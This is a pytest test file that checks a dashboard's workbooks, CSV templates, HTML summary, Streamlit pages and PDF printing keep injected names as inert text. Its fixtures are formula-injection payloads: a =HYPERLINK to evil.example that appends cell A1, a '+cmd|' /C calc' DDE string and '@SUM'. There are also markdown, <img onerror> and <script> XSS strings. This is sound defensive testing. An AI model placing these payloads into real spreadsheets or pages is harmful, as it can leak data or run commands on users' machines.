"""Payloads in names stay text in every output: workbooks, CSV, the officials' HTML, the pages."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from dashboards import plan_report, queries
from dashboards import workbook as wall_workbook
from dashboards.inert import inert, inert_workbook, md
from pipelines.templates import TEMPLATES

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka") '
MARKUP = "[klick](http://evil.example) ![](http://evil.example/x.png) <img src=x onerror=alert(1)> "
SCRIPT = "<script>document.title='PWNED'</script> "
# Each text column of the marts gets a payload in front of its own value (joins stay intact).
PAYLOADS = {
    "kommun_name": FORMULA + SCRIPT,
    "forvaltning_name": "@SUM(1+1) " + MARKUP,
    "scope_name": "@SUM(1+1) " + MARKUP,
    "measure": "-2+3 " + MARKUP,
    "owner_role": "+cmd|' /C calc'!A0 ",
}


@pytest.fixture(scope="module")
def payload_db(demo_warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo's published file with a payload in front of every name."""
    db = tmp_path_factory.mktemp("payload") / "chefskartan.duckdb"
    shutil.copyfile(demo_warehouse / "published" / "chefskartan.duckdb", db)
    db.chmod(0o600)
    con = duckdb.connect(str(db))
    try:
        text_columns = con.execute(
            "SELECT table_name, column_name FROM duckdb_columns() "
            "WHERE data_type = 'VARCHAR' AND table_name LIKE 'mart_%' AND NOT internal"
        ).fetchall()
        for table, column in text_columns:
            if column in PAYLOADS:
                con.execute(f"UPDATE {table} SET {column} = ? || {column}", [PAYLOADS[column]])
    finally:
        con.close()
    return db


def assert_inert(path: Path) -> int:
    """No formula in the file; every formula-like text is a text cell with the quote prefix."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
        styles = archive.read("xl/styles.xml")
    risky = 0
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    risky += 1
    if risky:
        assert b'quotePrefix="1"' in styles
    return risky


def test_workbooks_keep_payloads_as_text(payload_db: Path, tmp_path: Path) -> None:
    plan_report.use_published(payload_db)
    kommun = plan_report.kommun_row("1261")
    assert kommun["kommun_name"].startswith("=HYPERLINK")
    period = queries.periods("1261")[0]
    wall = wall_workbook.write_workbook(kommun, period, tmp_path / "vagg.xlsx")
    plan = plan_report.write_workbook("1261", tmp_path / "plan.xlsx")
    assert assert_inert(wall) > 0 and assert_inert(plan) > 0  # the payloads did arrive


def test_templates_are_inert(tmp_path: Path) -> None:
    for name, write in TEMPLATES.items():
        for path in write(tmp_path / name):
            if path.suffix == ".xlsx":
                assert_inert(path)
            else:
                first = path.read_text("utf-8").splitlines()[0]
                assert not any(c[:1] in "=+-@" for c in first.split(";"))


def test_the_escaping_rules() -> None:
    assert inert("=1+1") == "'=1+1" and inert("\tx") == "'\tx" and inert("Lomma") == "Lomma"
    assert inert(-5) == -5  # numbers are numbers
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "@x", "ok"])
    inert_workbook(book)
    assert [c.data_type for c in book.active[1]] == ["s", "s", "s"]
    assert md("[a](http://x) <img>") == r"\[a\](http\://x) \<img\>"
    assert md("Barn- och utbildning") == "Barn- och utbildning" and md("-1") == r"\-1"


def test_officials_summary_escapes_names(payload_db: Path) -> None:
    plan_report.use_published(payload_db)
    html = plan_report.summary_html("1261")
    assert "<script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html


def fact_wall_page() -> None:
    import streamlit as st

    from dashboards.views import fact_wall

    st.set_page_config(layout="wide")
    fact_wall.render()


def test_pages_show_names_as_text(payload_db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(queries.ENV_VAR, str(payload_db))
    at = AppTest.from_function(fact_wall_page, default_timeout=60)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    shown = [
        e.value for kind in ("markdown", "subheader", "title", "caption") for e in at.get(kind)
    ]
    payload_seen = [t for t in shown if "evil" in t or "HYPERLINK" in t]
    assert payload_seen, "the payload names must reach the page (as text)"
    for text in shown:  # a markdown link, image or tag would need an unescaped ]( or <
        assert not re.search(r"(?<!\\)(\]\(|<img|<script|://)", text), text


@pytest.mark.browser
def test_printing_runs_no_javascript(tmp_path: Path) -> None:
    from dashboards.printing import html_to_pdf

    script = "document.getElementById('p').textContent='PWNED'"
    page = f"<html><body><p id=p>rent</p><script>{script}</script></body></html>"
    pdf = html_to_pdf(page, tmp_path / "x.pdf", "A4")
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "rent" in text and "PWNED" not in text
